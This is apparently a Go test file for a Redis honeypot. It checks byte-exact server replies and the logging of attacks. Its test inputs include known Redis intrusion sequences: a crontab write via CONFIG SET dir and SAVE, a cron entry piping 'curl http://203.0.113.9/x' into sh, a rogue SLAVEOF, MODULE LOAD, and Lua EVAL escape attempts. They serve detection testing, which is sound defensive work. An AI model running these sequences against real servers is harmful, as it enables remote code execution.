package redis

import (
	"bytes"
	"io"
	"net"
	"strings"
	"testing"
	"time"

	"decnet/internal/event"
)

// exchange sends raw bytes on a fresh connection and returns everything the
// server sends back until it closes or goes quiet, and whether it closed.
func exchange(t *testing.T, addr, send string) (string, bool) {
	t.Helper()
	return exchangeFrom(t, "127.0.0.1", addr, send)
}

// exchangeFrom is exchange from a chosen loopback source address.
func exchangeFrom(t *testing.T, src, addr, send string) (string, bool) {
	t.Helper()
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(src)}}
	c, err := d.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if _, err := io.WriteString(c, send); err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	buf := make([]byte, 64*1024)
	for {
		c.SetReadDeadline(time.Now().Add(300 * time.Millisecond))
		n, err := c.Read(buf)
		out.Write(buf[:n])
		if err == io.EOF {
			return out.String(), true
		}
		if err != nil {
			return out.String(), false
		}
	}
}

// The expected bytes were captured from redis-server 7.0.15 (Debian
// 5:7.0.15-1~deb12u*) given the same input.
var noPasswordCases = []struct {
	name, send, want string
	closed           bool
}{
	{"ping", "PING\r\n", "+PONG\r\n", false},
	{"auth without password configured", "AUTH wrongpass\r\n", "-ERR AUTH <password> called without any password configured for the default user. Are you sure your configuration is correct?\r\n", false},
	{"auth unknown user", "AUTH admin wrongpass\r\n", "-WRONGPASS invalid username-password pair or user is disabled.\r\n", false},
	{"auth default any password", "AUTH default foo\r\n", "+OK\r\n", false},
	{"auth too many args", "AUTH a b c\r\n", "-ERR syntax error\r\n", false},
	{"unknown command", "FOO bar\r\n", "-ERR unknown command 'FOO', with args beginning with: 'bar' \r\n", false},
	{"unknown command no args", "foo\r\n", "-ERR unknown command 'foo', with args beginning with: \r\n", false},
	{"arity", "GET\r\n", "-ERR wrong number of arguments for 'get' command\r\n", false},
	{"subcommand arity", "config get\r\n", "-ERR wrong number of arguments for 'config|get' command\r\n", false},
	{"unknown subcommand", "config foo\r\n", "-ERR unknown subcommand 'foo'. Try CONFIG HELP.\r\n", false},
	{"config get requirepass", "CONFIG GET requirepass\r\n", "*2\r\n$11\r\nrequirepass\r\n$0\r\n\r\n", false},
	{"config get typed case", "CONFIG GET DIR\r\n", "*2\r\n$3\r\nDIR\r\n$14\r\n/var/lib/redis\r\n", false},
	{"config get glob", "CONFIG GET dbfilename maxmem*\r\n", "*12\r\n$10\r\ndbfilename\r\n$8\r\ndump.rdb\r\n$17\r\nmaxmemory-samples\r\n$1\r\n5\r\n$17\r\nmaxmemory-clients\r\n$1\r\n0\r\n$9\r\nmaxmemory\r\n$1\r\n0\r\n$27\r\nmaxmemory-eviction-tenacity\r\n$2\r\n10\r\n$16\r\nmaxmemory-policy\r\n$10\r\nnoeviction\r\n", false},
	{"config set errors", "CONFIG SET foo bar\r\nCONFIG SET a b c\r\nCONFIG SET maxmemory abc\r\nCONFIG SET protected-mode maybe\r\nCONFIG SET logfile x\r\nCONFIG SET dbfilename a/b\r\nCONFIG SET save x\r\n",
		"-ERR Unknown option or number of arguments for CONFIG SET - 'foo'\r\n-ERR syntax error\r\n-ERR CONFIG SET failed (possibly related to argument 'maxmemory') - argument must be a memory value\r\n-ERR CONFIG SET failed (possibly related to argument 'protected-mode') - argument must be 'yes' or 'no'\r\n-ERR CONFIG SET failed (possibly related to argument 'logfile') - can't set immutable config\r\n-ERR CONFIG SET failed (possibly related to argument 'dbfilename') - dbfilename can't be a path, just a filename\r\n-ERR CONFIG SET failed (possibly related to argument 'save') - Invalid save parameters\r\n", false},
	{"config set memory", "CONFIG SET maxmemory 1gb\r\nCONFIG GET maxmemory\r\n", "+OK\r\n*2\r\n$9\r\nmaxmemory\r\n$10\r\n1073741824\r\n", false},
	{"config set dir", "CONFIG SET dir /nonexistent/x\r\nCONFIG SET dir /var/spool/cron/crontabs\r\nCONFIG SET dbfilename root\r\nSAVE\r\n",
		"-ERR CONFIG SET failed (possibly related to argument 'dir') - No such file or directory\r\n+OK\r\n+OK\r\n+OK\r\n", false},
	{"quit", "QUIT\r\nPING\r\n", "+OK\r\n", true},
	{"quit with args", "quit x y\r\n", "+OK\r\n", true},
	{"hello 3", "HELLO 3\r\nPING\r\nGET nosuchkey\r\n", "%7\r\n$6\r\nserver\r\n$5\r\nredis\r\n$7\r\nversion\r\n$6\r\n7.0.15\r\n$5\r\nproto\r\n:3\r\n$2\r\nid\r\n:ID\r\n$4\r\nmode\r\n$10\r\nstandalone\r\n$4\r\nrole\r\n$6\r\nmaster\r\n$7\r\nmodules\r\n*0\r\n+PONG\r\n_\r\n", false},
	{"hello bad version", "HELLO 4\r\nHELLO foo\r\nHELLO 3 AUTH\r\nHELLO 2 SETNAME \"a b\"\r\n", "-NOPROTO unsupported protocol version\r\n-ERR Protocol version is not an integer or out of range\r\n-ERR Syntax error in HELLO option 'AUTH'\r\n-ERR Client names cannot contain spaces, newlines or special characters.\r\n", false},
	{"hello auth unknown user", "HELLO 3 AUTH a b\r\n", "-WRONGPASS invalid username-password pair or user is disabled.\r\n", false},
	{"ping arity", "ping a b\r\necho\r\n", "-ERR wrong number of arguments for 'ping' command\r\n-ERR wrong number of arguments for 'echo' command\r\n", false},
	{"select", "select 1\r\nselect 16\r\nselect x\r\nselect -1\r\ndbsize\r\n", "+OK\r\n-ERR DB index is out of range\r\n-ERR value is not an integer or out of range\r\n-ERR DB index is out of range\r\n:0\r\n", false},
	{"set options", "SELECT 3\r\nSET a 1\r\nSET a b EX\r\nSET a b EX 0\r\nSET a b EX x\r\nSET a b NX XX\r\nSET a b PX 100 KEEPTTL\r\nSET a b GET\r\nSET a b FOO\r\nSET a b NX\r\nSET nx b NX GET\r\nTTL a\r\nTTL zz\r\nPTTL a\r\n",
		"+OK\r\n+OK\r\n-ERR syntax error\r\n-ERR invalid expire time in 'set' command\r\n-ERR value is not an integer or out of range\r\n-ERR syntax error\r\n-ERR syntax error\r\n$1\r\n1\r\n-ERR syntax error\r\n$-1\r\n$-1\r\n:-1\r\n:-2\r\n:-1\r\n", false},
	{"wrongtype", "GET user:admin\r\nLRANGE jwt:secret 0 -1\r\nHGETALL jwt:secret\r\nSET user:admin x GET\r\nTYPE user:admin\r\nTYPE queue:password_reset\r\nTYPE zz\r\n",
		"-WRONGTYPE Operation against a key holding the wrong kind of value\r\n-WRONGTYPE Operation against a key holding the wrong kind of value\r\n-WRONGTYPE Operation against a key holding the wrong kind of value\r\n-WRONGTYPE Operation against a key holding the wrong kind of value\r\n+hash\r\n+list\r\n+none\r\n", false},
	{"bait values", "GET config:db_password\r\nHGET user:admin role\r\nHGET user:admin zz\r\nMGET config:db_password user:admin zz\r\nEXISTS jwt:secret jwt:secret zz\r\nTTL config:db_password\r\n",
		"$18\r\nPr0dDB!2024#Secure\r\n$5\r\nadmin\r\n$-1\r\n*3\r\n$18\r\nPr0dDB!2024#Secure\r\n$-1\r\n$-1\r\n:2\r\n:-1\r\n", false},
	{"lrange", "SELECT 2\r\nLRANGE l 0 x\r\nLRANGE l 0\r\nHGETALL zz\r\nLRANGE zz 0 -1\r\n", "+OK\r\n-ERR value is not an integer or out of range\r\n-ERR wrong number of arguments for 'lrange' command\r\n*0\r\n*0\r\n", false},
	{"scan errors", "SCAN x\r\nSCAN 0 COUNT 0\r\nSCAN 0 FOO\r\nSCAN 0 COUNT\r\nKEYS\r\n", "-ERR invalid cursor\r\n-ERR syntax error\r\n-ERR syntax error\r\n-ERR syntax error\r\n-ERR wrong number of arguments for 'keys' command\r\n", false},
	{"keys glob", "KEYS config:aws_*_key\r\nKEYS sessions:user:[0-4]*\r\n", "*2\r\n$21\r\nconfig:aws_secret_key\r\n$21\r\nconfig:aws_access_key\r\n*1\r\n$18\r\nsessions:user:1234\r\n", false},
	{"inline quoting", "ECHO \"a b\"\r\nECHO 'a\\'b'\r\nECHO \"\\x41\\n\"\r\n", "$3\r\na b\r\n$3\r\na'b\r\n$2\r\nA\n\r\n", false},
	{"unbalanced quotes", "PING\r\nECHO \"a\r\n", "+PONG\r\n-ERR Protocol error: unbalanced quotes in request\r\n", true},
	{"closing quote then letter", "ECHO \"a\"b\r\n", "-ERR Protocol error: unbalanced quotes in request\r\n", true},
	{"blank lines", "\r\n\r\nPING\r\n   \r\nPING hi\r\n", "+PONG\r\n$2\r\nhi\r\n", false},
	{"bulk end bytes unchecked", "*2\r\n$4\r\nECHO\r\n$2\r\nhiXXPING\r\n", "$2\r\nhi\r\n+PONG\r\n", false},
	{"expected dollar", "*1\r\nx4\r\n", "-ERR Protocol error: expected '$', got 'x'\r\n", true},
	{"bad multibulk length", "*x\r\n", "-ERR Protocol error: invalid multibulk length\r\n", true},
	{"multibulk over int max", "*3000000000\r\n\n", "-ERR Protocol error: invalid multibulk length\r\n", true},
	{"empty multibulk", "*-1\r\n*0\r\nPING\r\n", "+PONG\r\n", false},
	{"negative bulk", "*1\r\n$-1\r\n", "-ERR Protocol error: invalid bulk length\r\n", true},
	{"bulk over 512MB", "*1\r\n$600000000\r\n", "-ERR Protocol error: invalid bulk length\r\n", true},
	{"huge count waits", "*2000000000\r\n", "", false},
	{"too big inline", strings.Repeat("A", 70000), "-ERR Protocol error: too big inline request\r\n", true},
	{"cross protocol POST", "PING\r\nPOST / HTTP/1.1\r\n", "", true},
	{"cross protocol Host", "GET /\r\nHost: x\r\n", "", true},
	{"module", "MODULE LOAD /tmp/exp.so\r\nMODULE LIST\r\nMODULE\r\nMODULE FOO\r\nMODULE UNLOAD x\r\n",
		"-ERR Error loading the extension. Please check the server logs.\r\n*0\r\n-ERR wrong number of arguments for 'module' command\r\n-ERR unknown subcommand 'FOO'. Try MODULE HELP.\r\n-ERR Error unloading module: no such module with that name\r\n", false},
	{"eval", "EVAL \"return 1\" 0\r\nEVAL \"os.execute('id')\" 0\r\nEVAL x\r\nEVAL \"return 1\" x\r\nEVAL \"return 1\" 5\r\nEVAL \"\\nlocal x = 1\\nreturn io.popen('id')\" 0\r\nEVAL \"x = 5\" 0\r\nEVAL \"return KEYS[1]\" 1 foo\r\nEVAL \"return 2.5\" 0\r\nEVALSHA abc 0\r\n",
		":1\r\n-ERR user_script:1: Script attempted to access nonexistent global variable 'os' script: d943855a2b4c759b5d209cc99c41fb3fdba79649, on @user_script:1.\r\n-ERR wrong number of arguments for 'eval' command\r\n-ERR value is not an integer or out of range\r\n-ERR Number of keys can't be greater than number of args\r\n-ERR user_script:3: Script attempted to access nonexistent global variable 'io' script: 7f5e0d6359c3e282c9ab288196da03c5682f5b23, on @user_script:3.\r\n-ERR user_script:1: Attempt to modify a readonly table script: 818a330663e3c3e78469660421595218e5ab5c48, on @user_script:1.\r\n$3\r\nfoo\r\n:2\r\n-NOSCRIPT No matching script. Please use EVAL.\r\n", false},
	{"script load", "SCRIPT LOAD \"return 1\"\r\nEVALSHA e0e1f9fabfc9d4800c877a703b823ac0578ff8db 0\r\n", "$40\r\ne0e1f9fabfc9d4800c877a703b823ac0578ff8db\r\n:1\r\n", false},
	{"client", "CLIENT GETNAME\r\nCLIENT SETNAME \"a b\"\r\nCLIENT SETNAME foo\r\nCLIENT GETNAME\r\nCLIENT\r\nCLIENT FOO\r\nCLIENT SETNAME\r\n",
		"$-1\r\n-ERR Client names cannot contain spaces, newlines or special characters.\r\n+OK\r\n$3\r\nfoo\r\n-ERR wrong number of arguments for 'client' command\r\n-ERR unknown subcommand 'FOO'. Try CLIENT HELP.\r\n-ERR wrong number of arguments for 'client|setname' command\r\n", false},
	{"command", "COMMAND COUNT\r\nCOMMAND COUNT x\r\nCOMMAND FOO\r\nCOMMAND DOCS get\r\n",
		":240\r\n-ERR wrong number of arguments for 'command|count' command\r\n-ERR unknown subcommand 'FOO'. Try COMMAND HELP.\r\n*2\r\n$3\r\nget\r\n*10\r\n$7\r\nsummary\r\n$22\r\nGet the value of a key\r\n$5\r\nsince\r\n$5\r\n1.0.0\r\n$5\r\ngroup\r\n$6\r\nstring\r\n$10\r\ncomplexity\r\n$4\r\nO(1)\r\n$9\r\narguments\r\n*1\r\n*6\r\n$4\r\nname\r\n$3\r\nkey\r\n$4\r\ntype\r\n$3\r\nkey\r\n$14\r\nkey_spec_index\r\n:0\r\n", false},
	{"info unknown section", "INFO foo\r\n", "$0\r\n\r\n", false},
	{"arity of misc", "TYPE\r\nLASTSAVE x\r\nTIME x\r\nROLE x\r\nDBSIZE x\r\nFLUSHALL x y\r\nSAVE x\r\nBGSAVE x\r\nFLUSHDB x\r\n",
		"-ERR wrong number of arguments for 'type' command\r\n-ERR wrong number of arguments for 'lastsave' command\r\n-ERR wrong number of arguments for 'time' command\r\n-ERR wrong number of arguments for 'role' command\r\n-ERR wrong number of arguments for 'dbsize' command\r\n-ERR syntax error\r\n-ERR wrong number of arguments for 'save' command\r\n-ERR syntax error\r\n-ERR syntax error\r\n", false},
	{"role", "ROLE\r\n", "*3\r\n$6\r\nmaster\r\n:0\r\n*0\r\n", false},
	{"bgsave twice", "BGSAVE\r\nBGSAVE\r\n", "+Background saving started\r\n-ERR Background save already in progress\r\n", false},
}

func TestRepliesNoPassword(t *testing.T) {
	for _, tc := range noPasswordCases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			addr, _ := start(t, "127.77.0.1:0", nil)
			got, closed := exchange(t, addr, tc.send)
			want := tc.want
			if strings.Contains(want, ":ID\r\n") {
				id := got[strings.Index(got, "$2\r\nid\r\n:")+9:]
				want = strings.Replace(want, ":ID\r\n", ":"+id[:strings.Index(id, "\r\n")]+"\r\n", 1)
			}
			if got != want {
				t.Errorf("sent %q\n got %q\nwant %q", tc.send, got, want)
			}
			if closed != tc.closed {
				t.Errorf("closed = %v, want %v", closed, tc.closed)
			}
		})
	}
}

func TestRepliesWithPassword(t *testing.T) {
	cases := []struct {
		name, send, want string
		closed           bool
	}{
		{"noauth", "PING\r\nINFO server\r\nCLIENT SETNAME x\r\nCOMMAND DOCS\r\n", strings.Repeat("-NOAUTH Authentication required.\r\n", 4), false},
		{"unknown before auth", "FOO a\r\nget\r\n", "-ERR unknown command 'FOO', with args beginning with: 'a' \r\n-ERR wrong number of arguments for 'get' command\r\n", false},
		{"wrong password", "AUTH wrong\r\nAUTH default wrong\r\nAUTH admin secret\r\n", strings.Repeat("-WRONGPASS invalid username-password pair or user is disabled.\r\n", 3), false},
		{"auth", "AUTH secret\r\nPING\r\n", "+OK\r\n+PONG\r\n", false},
		{"auth with user", "AUTH default secret\r\nPING\r\n", "+OK\r\n+PONG\r\n", false},
		{"hello needs auth", "HELLO 3\r\n", "-NOAUTH HELLO must be called with the client already authenticated, otherwise the HELLO AUTH <user> <pass> option can be used to authenticate the client and select the RESP protocol version at the same time\r\n", false},
		{"hello auth wrong", "HELLO 3 AUTH default wrong\r\n", "-WRONGPASS invalid username-password pair or user is disabled.\r\n", false},
		{"unauthenticated multibulk", "*11\r\n", "-ERR Protocol error: unauthenticated multibulk length\r\n", true},
		{"unauthenticated bulk", "*3\r\n$20000\r\n", "-ERR Protocol error: unauthenticated bulk length\r\n", true},
		{"authenticated big bulk", "AUTH secret\r\n*3\r\n$3\r\nSET\r\n$1\r\nk\r\n$20000\r\n" + strings.Repeat("v", 20000) + "\r\nSTRLEN k\r\n", "+OK\r\n+OK\r\n-ERR unknown command 'STRLEN', with args beginning with: 'k' \r\n", false},
		{"quit before auth", "QUIT\r\n", "+OK\r\n", true},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			addr, _ := start(t, "127.77.0.2:0", map[string]string{"password": "secret"})
			got, closed := exchange(t, addr, tc.send)
			if got != tc.want || closed != tc.closed {
				t.Errorf("sent %q\n got %q (closed %v)\nwant %q (closed %v)", tc.send, got, closed, tc.want, tc.closed)
			}
		})
	}
}

func TestProtectedMode(t *testing.T) {
	// A client on 127.77.0.70 is not 127.0.0.1: an outside client to protected mode.
	addr, _ := start(t, "127.77.0.3:0", map[string]string{"protected_mode": "true"})
	got, closed := exchangeFrom(t, "127.77.0.70", addr, "")
	if got != deniedBanner || !closed {
		t.Errorf("got %q closed %v", got, closed)
	}
	if !strings.Contains(got, "4) Setup a an authentication password") {
		t.Error("the banner lost its verbatim typo")
	}
}

func TestProtectedConfigsPersona(t *testing.T) {
	addr, _ := start(t, "127.77.0.4:0", map[string]string{"enable_protected_configs": "no", "enable_module_command": "no"})
	got, _ := exchange(t, addr, "CONFIG SET dir /tmp\r\nMODULE LOAD /tmp/x.so\r\nCONFIG GET enable-*-command\r\n")
	want := "-ERR CONFIG SET failed (possibly related to argument 'dir') - can't set protected config\r\n" +
		"-ERR MODULE command not allowed. If the enable-module-command option is set to \"local\", you can run it from a local connection, otherwise you need to set this option in the configuration file, and then restart the server.\r\n" +
		"*4\r\n$20\r\nenable-debug-command\r\n$2\r\nno\r\n$21\r\nenable-module-command\r\n$2\r\nno\r\n"
	if got != want {
		t.Errorf("got  %q\nwant %q", got, want)
	}
}

func TestReplicaOf(t *testing.T) {
	addr, rec := start(t, "127.77.0.5:0", nil)
	got, _ := exchange(t, addr, "SLAVEOF 203.0.113.9 21000\r\nSLAVEOF 203.0.113.9 21000\r\nROLE\r\nSET x 1\r\nREPLICAOF 203.0.113.9 x\r\nREPLICAOF NO ONE\r\nSET x 1\r\n")
	want := "+OK\r\n+OK Already connected to specified master\r\n*5\r\n$5\r\nslave\r\n$11\r\n203.0.113.9\r\n:21000\r\n$10\r\nconnecting\r\n:-1\r\n" +
		"-READONLY You can't write against a read only replica.\r\n-ERR Invalid master port\r\n+OK\r\n+OK\r\n"
	if got != want {
		t.Errorf("got  %q\nwant %q", got, want)
	}
	var warned bool
	for _, e := range rec.OfType(event.TypeCommand) {
		if e.Fields["cmd"] == "SLAVEOF" && e.Severity == event.Warning && e.Fields["args"] == `["203.0.113.9","21000"]` &&
			e.Fields["technique"] == "rogue-master" {
			warned = true
		}
	}
	if !warned {
		t.Error("no warning event for SLAVEOF")
	}
}

func TestFlushAndSharedKeyspace(t *testing.T) {
	addr, _ := start(t, "127.77.0.6:0", nil)
	if got, _ := exchange(t, addr, "SET shared:k v\r\n"); got != "+OK\r\n" {
		t.Fatalf("SET: %q", got)
	}
	if got, _ := exchange(t, addr, "GET shared:k\r\nDBSIZE\r\nFLUSHALL\r\nDBSIZE\r\n"); got != "$1\r\nv\r\n:12\r\n+OK\r\n:0\r\n" {
		t.Errorf("second connection: %q", got)
	}
}

func TestEvents(t *testing.T) {
	addr, rec := start(t, "127.77.0.7:0", map[string]string{"password": "secret"})
	exchange(t, addr, "AUTH nope\r\nHELLO 3 AUTH default secret\r\nCONFIG SET dir /var/spool/cron/crontabs\r\nCONFIG SET dbfilename root\r\nSET x \"\\n* * * * * curl http://203.0.113.9/x | sh\\n\"\r\nSAVE\r\nFOO\r\n")
	auths := rec.OfType(event.TypeAuth)
	if len(auths) != 2 {
		t.Fatalf("auth events: %d", len(auths))
	}
	if f := auths[0].Fields; f["username"] != "default" || f["password"] != "nope" || f["success"] != "false" || f["src_ip"] != "127.0.0.1" {
		t.Errorf("first auth: %v", f)
	}
	if f := auths[1].Fields; f["password"] != "secret" || f["success"] != "true" {
		t.Errorf("second auth: %v", f)
	}
	cmds := rec.OfType(event.TypeCommand)
	if len(cmds) != 7 {
		t.Fatalf("command events: %d", len(cmds))
	}
	set := cmds[4].Fields
	if set["cmd"] != "SET" || set["command"] != `SET x "\n* * * * * curl http://203.0.113.9/x | sh\n"` || set["session"] == "" {
		t.Errorf("SET event: %v", set)
	}
	save := cmds[5]
	if save.Fields["file"] != "/var/spool/cron/crontabs/root" || save.Severity != event.Warning || save.Fields["technique"] != "file-write" {
		t.Errorf("SAVE event: %v sev %d", save.Fields, save.Severity)
	}
	if cmds[2].Severity != event.Warning || cmds[2].Fields["technique"] != "file-write-setup" || cmds[6].Fields["error"] == "" {
		t.Errorf("CONFIG SET severity %d fields %v, FOO fields %v", cmds[2].Severity, cmds[2].Fields, cmds[6].Fields)
	}
	if _, ok := set["technique"]; ok {
		t.Errorf("a plain SET named as a technique: %v", set)
	}
}

func TestInfo(t *testing.T) {
	addr, _ := start(t, "127.77.0.8:0", nil)
	a, _ := exchange(t, addr, "INFO\r\n")
	b, _ := exchange(t, addr, "INFO server\r\n")
	for _, sec := range []string{"# Server", "# Clients", "# Memory", "# Persistence", "# Stats", "# Replication", "# CPU", "# Modules", "# Errorstats", "# Cluster", "# Keyspace", "redis_build_id:ae4d7c971a948f0", "gcc_version:12.2.0", "os:Linux 6.1.0-28-amd64 x86_64", "db0:keys=11,expires=3,"} {
		if !strings.Contains(a, sec+"\r\n") && !strings.Contains(a, sec) {
			t.Errorf("INFO lacks %q", sec)
		}
	}
	runID := func(s string) string { i := strings.Index(s, "run_id:"); return s[i : i+47] }
	if runID(a) != runID(b) {
		t.Error("run_id differs between connections")
	}
	if strings.Contains(b, "# Clients") || !strings.HasSuffix(b, "io_threads_active:0\r\n\r\n") {
		t.Errorf("INFO server: %q", b)
	}
}
